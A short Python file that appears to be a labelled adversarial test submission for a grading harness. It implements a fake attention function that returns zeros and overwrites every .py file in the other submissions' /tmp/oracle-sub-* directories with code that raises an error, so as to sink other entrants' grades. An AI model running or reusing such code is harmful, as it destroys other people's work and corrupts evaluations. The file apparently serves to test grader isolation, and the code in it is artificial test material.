"""Wrong, and overwrites the other submissions being graded at the same time (their private copies
under /tmp/oracle-sub-*) with code that fails: it tries to change someone else's grade."""
import glob
import os

import numpy as np

BROKEN = "def attention(Q, K, V, mask=None):\n    raise RuntimeError('vandalised')\n"


def attention(Q, K, V, mask=None):
    mine = os.path.dirname(os.path.abspath(__file__))
    for d in glob.glob("/tmp/oracle-sub-*"):
        if os.path.abspath(d) != mine:
            for p in glob.glob(os.path.join(d, "*.py")):
                try:
                    with open(p, "w") as f:
                        f.write(BROKEN)
                except OSError:
                    pass
    B, H, T, _ = Q.shape
    return np.zeros((B, H, T, V.shape[-1])), None
